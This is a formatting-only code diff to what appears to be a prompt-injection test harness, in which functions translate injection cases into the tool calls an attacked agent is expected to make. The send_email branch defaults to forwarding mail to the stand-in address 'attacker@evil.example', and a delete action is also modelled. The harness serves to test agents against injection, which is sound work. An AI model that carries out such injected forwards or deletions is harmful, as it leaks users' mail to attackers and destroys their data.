@@ -76,7 +76,8 @@ function caseOf(read: z.infer<typeof row>): InjectionCase {
 function wantedCall({ action, tool, read_only, suggested_danger, args }: Call, goal: string): WantedCall {
   const isDangerous = !read_only && suggested_danger === 'dangerous';
   const own = ownCall(action, args, goal);
-  if (own !== null) return { ...own, isDangerous: isDangerous || dangerousOwn.has(own.action), isForeign: false };
+  if (own !== null)
+    return { ...own, isDangerous: isDangerous || dangerousOwn.has(own.action), isForeign: false };
   const name = (tool || action).replace(/[^A-Za-z0-9]+/g, '_').toLowerCase();
   return { action: `tool_${name}`, parameters: args, isDangerous, isForeign: true };
 }
@@ -98,12 +99,21 @@ const sameName = new Set([
   'none',
 ]);
 
-function ownCall(action: string, args: JsonObject, goal: string): Pick<WantedCall, 'action' | 'parameters'> | null {
+function ownCall(
+  action: string,
+  args: JsonObject,
+  goal: string,
+): Pick<WantedCall, 'action' | 'parameters'> | null {
   if (action === 'send_email') {
-    const named = [args['recipients'], args['to'], args['recipient']].flat().filter((value) => isAddress(value));
+    const named = [args['recipients'], args['to'], args['recipient']]
+      .flat()
+      .filter((value) => isAddress(value));
     return {
       action: 'forward',
-      parameters: { to: named.length > 0 ? named : ['attacker@evil.example'], note: goal.slice(0, 1000) || 'as agreed' },
+      parameters: {
+        to: named.length > 0 ? named : ['attacker@evil.example'],
+        note: goal.slice(0, 1000) || 'as agreed',
+      },
     };
   }
   if (action === 'delete') return { action, parameters: {} };
